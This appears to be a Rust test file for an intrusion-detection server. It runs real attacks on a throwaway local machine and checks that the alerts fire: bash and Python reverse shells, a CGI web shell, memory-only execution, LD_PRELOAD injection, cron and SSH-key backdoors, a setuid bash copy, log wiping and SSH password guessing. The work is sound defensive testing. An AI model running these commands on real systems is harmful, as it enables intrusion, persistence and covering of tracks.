//! Attacks, done for real on a throwaway machine, and the alerts that they raise; and what must raise none.

mod room;

use serde_json::Value;

use self::room::{Room, Shell, evidence, raised};
use crate::app::App;

/// A server that decides at once.
fn server() -> App {
    App::start_with(&["--set", "detect.update_interval_secs=1"])
}

fn is(event: &Value, what: &[(&str, &str)]) -> bool {
    what.iter().all(|(column, value)| event[*column] == *value)
}

/// The command line of somebody begins like this.
fn begins(event: &Value, start: &str) -> bool {
    event["command_line"].as_str().is_some_and(|line| line.starts_with(start))
}

#[test]
fn shells_that_should_not_be_there_raise_alerts() {
    let app = server();
    let Some(room) = Room::start(&app) else { return };
    let _shells = [bash_connects_back(&app, &room), python_connects_back(&app, &room), web_server(&app, &room)];
    let _others = [from_memory(&app, &room), preloaded_by_variable(&app, &room)];
}

/// The classic line, as an ordinary user; whoever listens has it do something.
fn bash_connects_back(app: &App, room: &Room) -> Shell {
    let mut shell = room.shell();
    shell.run("(echo 'id -un > /tmp/had.new; mv /tmp/had.new /tmp/had'; sleep 600) | nc -l 127.0.0.1 4444 &");
    shell.run(
        "cat > connect.sh <<'END'\nuntil bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'; do sleep 0.2; done\nEND",
    );
    shell.run("setpriv --reuid user --regid user --init-groups sh connect.sh &");
    app.wait("the shell was used", |_| room.path("/tmp/had").exists().then_some(()));
    assert_eq!(std::fs::read_to_string(room.path("/tmp/had")).unwrap(), "user\n");
    let event = raised(app, "Shell on a network connection", |event| is(event, &[("command_line", "bash -i")]));
    assert!(is(&event, &[("user", "user"), ("stdin", "socket"), ("host", "room")]), "{event}");
    assert!(event["image"].as_str().unwrap().ends_with("/bash"), "{event}");
    shell
}

/// A program makes the connection and becomes a shell: no command line tells of it.
fn python_connects_back(app: &App, room: &Room) -> Shell {
    let mut shell = room.shell();
    let connect = "import os, socket, time\n\
        s = socket.socket()\n\
        while s.connect_ex(('127.0.0.1', 4445)): s.close(); s = socket.socket(); time.sleep(0.2)\n\
        [os.dup2(s.fileno(), n) for n in (0, 1, 2)]\n\
        os.execv('/bin/sh', ['sh', '-i'])\n";
    shell.run("sleep 600 | nc -l 127.0.0.1 4445 &");
    shell.run(&format!("cat > connect.py <<'END'\n{connect}END\npython3 connect.py &"));
    let event = raised(app, "Shell on a network connection", |event| is(event, &[("command_line", "sh -i")]));
    assert!(is(&event, &[("user", "root"), ("stdin", "socket"), ("stdout", "socket")]), "{event}");
    shell
}

/// A web server runs a page that is a shell.
fn web_server(app: &App, room: &Room) -> Shell {
    let mut shell = room.shell();
    let settings = "server.document-root = \"/var/www/html\"\nserver.port = 8080\nserver.username = \"www-data\"\n\
        server.modules = (\"mod_cgi\")\ncgi.assign = (\".sh\" => \"/bin/sh\")\n";
    shell.run(&format!("cat > web.conf <<'END'\n{settings}END"));
    shell.run("mkdir -p /var/www/html; printf 'printf \"\\\\n\"; id\\nsleep 600\\n' > /var/www/html/page.sh");
    shell.run("lighttpd -D -f web.conf &");
    shell.run("until nc -z 127.0.0.1 8080; do sleep 0.2; done; printf 'GET /page.sh HTTP/1.0\\r\\n\\r\\n' | nc 127.0.0.1 8080 &");
    let event = raised(app, "Web server started a shell", |event| is(event, &[("host", "room")]));
    assert!(is(&event, &[("user", "www-data"), ("parent_image", "/usr/sbin/lighttpd")]), "{event}");
    assert!(event["command_line"].as_str().unwrap().contains("page.sh"), "{event}");
    shell
}

/// A program that is on no disk.
fn from_memory(app: &App, room: &Room) -> Shell {
    let mut shell = room.shell();
    let load = "import os\n\
        fd = os.memfd_create('x')\n\
        os.write(fd, open('/usr/bin/sleep', 'rb').read())\n\
        os.execv(f'/proc/self/fd/{fd}', ['from-memory', '600'])\n";
    shell.run(&format!("cat > load.py <<'END'\n{load}END\npython3 load.py &"));
    let event = raised(app, "Program run from memory", |event| begins(event, "from-memory"));
    assert!(event["image"].as_str().unwrap().starts_with("/memfd:x"), "{event}");
    assert_eq!(event["user"], "root", "{event}");
    shell
}

/// A library that is put before all others of one program.
fn preloaded_by_variable(app: &App, room: &Room) -> Shell {
    let mut shell = room.shell();
    shell.run("cp /usr/lib/*/libm.so.6 /tmp/first.so; LD_PRELOAD=/tmp/first.so sleep 601 &");
    let title = "Library loaded first from a folder that anybody can write to";
    let event = raised(app, title, |event| begins(event, "sleep 601"));
    assert!(is(&event, &[("preload", "/tmp/first.so"), ("user", "root")]), "{event}");
    shell
}

#[test]
fn what_stays_behind_raises_alerts() {
    let app = server();
    let Some(room) = Room::start(&app) else { return };
    let mut shell = room.shell();
    // The shell writes these itself, so that who did it is known for sure.
    shell.run("echo '* * * * * root /tmp/back' > /etc/cron.d/back");
    shell.run("mkdir -p ~root/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJhY2tkb29y a@b' >> ~root/.ssh/authorized_keys");
    shell.run("echo /usr/lib/back.so > /etc/ld.so.preload");
    let written = [
        ("Scheduled job changed", "/etc/cron.d/back"),
        ("SSH key added", "/.ssh/authorized_keys"),
        ("System-wide preload changed", "/etc/ld.so.preload"),
    ];
    for (title, path) in written {
        let event = raised(&app, title, |event| event["path"].as_str().is_some_and(|found| found.ends_with(path)));
        assert!(is(&event, &[("user", "root"), ("host", "room"), ("image", "/usr/bin/bash")]), "{title}: {event}");
    }
    shell.run("rm /etc/ld.so.preload; cp /bin/bash /usr/local/bin/back; chmod 4755 /usr/local/bin/back");
    let back = [("path", "/usr/local/bin/back")];
    let event = raised(&app, "Program made to run with its owner's rights", |event| is(event, &back));
    assert_eq!((&event["setid"], &event["owner"]), (&true.into(), &"root".into()), "{event}");
    let title = "Command that gives a program its owner's rights";
    let event = raised(&app, title, |event| is(event, &[("command_line", "chmod 4755 /usr/local/bin/back")]));
    assert!(is(&event, &[("user", "root"), ("image", "/usr/bin/chmod")]), "{event}");
    shell.run("truncate -s 0 /var/log/auth.log");
    let event = raised(&app, "Traces removed", |event| begins(event, "truncate -s 0 /var/log/auth.log"));
    assert_eq!(event["user"], "root", "{event}");
    // What a shell writes over shows no command.
    shell.run("echo 'root came in' > /var/log/secure; sleep 3; : > /var/log/secure");
    let event = raised(&app, "Log file cut short", |event| is(event, &[("path", "/var/log/secure")]));
    assert!(is(&event, &[("user", "root"), ("image", "/usr/bin/bash")]), "{event}");
}

#[test]
fn guessed_passwords_raise_an_alert() {
    let app = server();
    let Some(room) = Room::start(&app) else { return };
    let mut shell = room.shell();
    shell.run("/usr/sbin/sshd -D -o ListenAddress=127.0.0.1 & until nc -z 127.0.0.1 22; do sleep 0.2; done");
    let options = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password";
    // Four at once: sshd takes no more than ten that have not signed in.
    shell.run(&format!(
        "guess() {{ for n in 1 2 3 4; do sshpass -p guess-$1-$n ssh {options} -o NumberOfPasswordPrompts=1 user@127.0.0.1; \
         done; }}; for k in 1 2 3 4; do guess $k & done"
    ));
    let event = raised(&app, "Passwords guessed over SSH", |event| is(event, &[("host", "room")]));
    assert!(is(&event, &[("src_ip", "127.0.0.1"), ("user", "user"), ("service", "sshd")]), "{event}");
    assert_eq!(event["success"], false, "{event}");
}

/// A package with a program, a scheduled job and a service, as packages have them.
fn package(room: &Room, version: &str) {
    let control = format!(
        "Package: room-tool\\nVersion: {version}\\nArchitecture: all\\nMaintainer: Test <test@example.com>\\n\
         Description: nothing\\n"
    );
    room.must(&format!(
        "rm -rf /srv/tree; mkdir -p /srv/tree/DEBIAN /srv/tree/usr/bin /srv/tree/etc/cron.d /srv/tree/usr/lib/systemd/system
         printf '{control}' > /srv/tree/DEBIAN/control
         printf '#!/bin/sh\\necho {version}\\n' > /srv/tree/usr/bin/room-tool; chmod 755 /srv/tree/usr/bin/room-tool
         echo '#{version} 0 0 * * * root room-tool' > /srv/tree/etc/cron.d/room-tool
         printf '[Service]\\nExecStart=/usr/bin/room-tool {version}\\n' > /srv/tree/usr/lib/systemd/system/room-tool.service
         dpkg-deb -b /srv/tree /srv/room-tool.deb && dpkg -i --force-confnew /srv/room-tool.deb"
    ));
}

#[test]
fn a_package_that_is_upgraded_raises_no_alert() {
    let app = server();
    let Some(room) = Room::start(&app) else { return };
    let files = ["/usr/bin/room-tool", "/etc/cron.d/room-tool", "/usr/lib/systemd/system/room-tool.service"];
    for version in ["1.0", "2.0"] {
        package(&room, version);
        let written = if version == "1.0" { "create" } else { "modify" };
        for path in files {
            let told = format!(
                "SELECT expected FROM files WHERE host = 'room' AND path = '{path}' AND activity = '{written}'"
            );
            let told = app.wait(path, |app| app.json(&["query", &told]).as_array().unwrap().first().cloned());
            assert_eq!(told["expected"], true, "{path} {version}");
        }
    }
    // What comes behind it is decided behind it: when this is known, that was decided.
    let mut shell = room.shell();
    shell.run("echo '* * * * * root /tmp/back' > /etc/cron.d/back");
    raised(&app, "Scheduled job changed", |event| is(event, &[("path", "/etc/cron.d/back")]));
    let about = evidence(&app, |_| true).into_iter().find(|event| event.to_string().contains("room-tool"));
    assert_eq!(about, None, "the upgrade raised an alert");
    // The same file, written by somebody else.
    shell.run("echo 'echo evil' >> /usr/bin/room-tool");
    let tampered = [("path", files[0]), ("user", "root"), ("image", "/usr/bin/bash")];
    let event = raised(&app, "Program or library that contradicts its package", |event| is(event, &tampered[..1]));
    assert!(is(&event, &tampered), "{event}");
}
